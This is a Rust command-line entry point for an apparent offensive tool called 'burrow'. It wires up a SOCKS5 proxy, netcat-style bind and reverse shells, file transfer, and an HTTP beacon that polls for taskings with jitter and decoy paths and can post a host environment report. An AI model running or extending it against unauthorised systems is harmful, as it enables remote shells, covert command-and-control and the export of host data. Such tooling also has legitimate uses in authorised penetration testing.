use std::error::Error;
use std::path::PathBuf;
use std::time::Duration;

use clap::{Args, Parser, Subcommand};
use env_logger::Env;
use log::{error, info};
use tokio_rustls::rustls;

use burrow::commands::http_beacon::{self, RequestOptions};
use burrow::config::BeaconConfig;
use burrow::encryption::generate_ca_chain;
use burrow::file_handling::{download_file, send_file, TransferServer};
use burrow::netcat;
use burrow::networking::dialer::dial;
use burrow::networking::server::ProxyServer;

#[derive(Parser)]
#[command(
    name = "burrow",
    version,
    about = "SOCKS5 proxy core with netcat, file transfer and HTTP beacon modes"
)]
struct Cli {
    #[command(subcommand)]
    command: Commands,
}

#[derive(Subcommand)]
enum Commands {
    /// Run the SOCKS5 proxy server
    Proxy(ProxyArgs),
    /// Interactive TCP sessions and shells
    Netcat(NetcatArgs),
    /// Serve or move files over TCP
    Transfer(TransferArgs),
    /// Poll an HTTP server for taskings
    Http(HttpArgs),
    /// Generate a CA plus server and client certificates
    Certs(CertsArgs),
}

#[derive(Args)]
struct ProxyArgs {
    /// Listen address
    #[arg(long, default_value = "0.0.0.0")]
    address: String,
    /// Listen port
    #[arg(short, long, default_value_t = 8181)]
    port: u16,
    /// Handshake timeout in seconds, 0 to disable
    #[arg(long, default_value_t = 10)]
    handshake_timeout: u64,
}

#[derive(Args)]
struct NetcatArgs {
    /// Peer address for outbound modes
    #[arg(long, default_value = "127.0.0.1")]
    address: String,
    #[arg(short, long, default_value_t = 8080)]
    port: u16,
    /// Wait for one connection instead of dialing out
    #[arg(short, long, conflicts_with_all = ["bind_shell", "reverse_shell"])]
    listen: bool,
    /// Serve a local shell to whoever connects
    #[arg(long, conflicts_with = "reverse_shell")]
    bind_shell: bool,
    /// Dial out and serve a local shell over the connection
    #[arg(long)]
    reverse_shell: bool,
    /// Wrap the session in TLS
    #[arg(long)]
    tls: bool,
}

#[derive(Args)]
struct TransferArgs {
    /// Run the file server
    #[arg(short, long, conflicts_with_all = ["download", "send"])]
    listen: bool,
    /// Fetch a file from the server
    #[arg(short, long, conflicts_with = "send")]
    download: bool,
    /// Push a file to the server
    #[arg(short, long)]
    send: bool,
    /// Server hostname (client modes) or listen address (server mode)
    #[arg(long, default_value = "127.0.0.1")]
    host: String,
    #[arg(short, long, default_value_t = 8080)]
    port: u16,
    /// File to download or send
    #[arg(short, long)]
    file: Option<String>,
    /// Wrap the transfer in TLS
    #[arg(long)]
    tls: bool,
    /// Dial through a SOCKS5 proxy at host:port (client modes)
    #[arg(long)]
    proxy: Option<String>,
}

#[derive(Args)]
struct HttpArgs {
    /// Server base URL (default from config.json when present)
    #[arg(short, long)]
    url: Option<String>,
    /// HTTP method for the polling request
    #[arg(short, long, default_value = "GET")]
    method: String,
    /// Comma-separated header pairs, e.g. "X-Token: abc, Accept: */*"
    #[arg(long)]
    headers: Option<String>,
    /// Request body, JSON or raw
    #[arg(short, long)]
    body: Option<String>,
    /// Seconds between polls; 0 sends one request and exits
    #[arg(short, long)]
    interval: Option<u64>,
    /// Upper bound on the random per-cycle jitter in seconds
    #[arg(short, long)]
    jitter: Option<u64>,
    /// Decoy directories appended to the URL, one picked per poll
    #[arg(short, long)]
    directories: Vec<String>,
    /// Accept any TLS certificate
    #[arg(long)]
    skip_tls_verify: bool,
    /// SOCKS5 proxy at host:port for all requests
    #[arg(long)]
    proxy: Option<String>,
    /// Attach a host environment report as the request body
    #[arg(long, conflicts_with = "body")]
    report_env: bool,
}

#[derive(Args)]
struct CertsArgs {
    /// Directory the PEM files are written to
    #[arg(short, long, default_value = ".")]
    out_dir: PathBuf,
}

#[tokio::main]
async fn main() -> Result<(), Box<dyn Error>> {
    env_logger::Builder::from_env(Env::default().default_filter_or("info")).init();
    // ring is the only crypto provider linked in.
    let _ = rustls::crypto::ring::default_provider().install_default();

    let cli = Cli::parse();
    info!("[STARTUP] burrow {}", env!("CARGO_PKG_VERSION"));

    match cli.command {
        Commands::Proxy(args) => {
            let timeout = if args.handshake_timeout == 0 {
                None
            } else {
                Some(Duration::from_secs(args.handshake_timeout))
            };
            let server = ProxyServer::new(args.address, args.port).with_handshake_timeout(timeout);
            let listener = server.bind().await?;
            server
                .serve(listener, async {
                    if tokio::signal::ctrl_c().await.is_err() {
                        error!("[SOCKS5] Ctrl-C handler unavailable; serving until killed");
                        std::future::pending::<()>().await;
                    }
                })
                .await;
            info!("[SOCKS5] Shutdown");
        }
        Commands::Netcat(args) => {
            if args.bind_shell {
                netcat::bind_shell(args.port, args.tls).await?;
            } else if args.reverse_shell {
                netcat::reverse_shell(&args.address, args.port, args.tls).await?;
            } else if args.listen {
                netcat::listen(args.port, args.tls).await?;
            } else {
                netcat::call(&args.address, args.port, args.tls).await?;
            }
        }
        Commands::Transfer(args) => {
            if args.listen {
                let server = TransferServer::new(args.host, args.port, args.tls);
                server.run().await?;
            } else if args.download || args.send {
                let file = args.file.ok_or("transfer client modes need --file")?;
                let target = format!("{}:{}", args.host, args.port);
                let stream = dial(&target, args.tls, args.proxy.as_deref()).await?;
                if args.download {
                    let (path, bytes) = download_file(stream, &file).await?;
                    println!("downloaded {} ({} bytes)", path.display(), bytes);
                } else {
                    let bytes = send_file(stream, &file).await?;
                    println!("sent {} ({} bytes)", file, bytes);
                }
            } else {
                return Err("pick one of --listen, --download or --send".into());
            }
        }
        Commands::Http(args) => {
            let config = BeaconConfig::load();
            let url = args.url.unwrap_or(config.server_url);
            let interval = args.interval.unwrap_or(config.poll_interval);
            let jitter = args.jitter.unwrap_or(config.jitter);

            let mut method: reqwest::Method = args.method.to_uppercase().parse()?;
            let headers = match &args.headers {
                Some(raw) => http_beacon::parse_header_list(raw)?,
                None => Vec::new(),
            };
            let mut body = args.body;
            if args.report_env {
                let probe = reqwest::Url::parse(&url)
                    .ok()
                    .and_then(|u| u.host_str().map(str::to_string))
                    .unwrap_or_else(|| "127.0.0.1".to_string());
                body = Some(http_beacon::environment_report(&probe).to_string());
                if method == reqwest::Method::GET {
                    info!("[BEACON] Environment report needs a body; using POST");
                    method = reqwest::Method::POST;
                }
            }

            let opts = RequestOptions {
                method,
                base_url: url,
                directories: args.directories,
                headers,
                body,
                skip_tls_verify: args.skip_tls_verify,
                proxy: args.proxy,
                timeout: Duration::from_secs(if interval == 0 { 30 } else { interval }),
            };
            if interval == 0 {
                let response = http_beacon::send_once(&opts).await?;
                println!("{}", response);
            } else {
                http_beacon::run_with_interval(&opts, interval, jitter).await?;
            }
        }
        Commands::Certs(args) => {
            generate_ca_chain(&args.out_dir)?;
            println!("certificates written to {}", args.out_dir.display());
        }
    }
    Ok(())
}
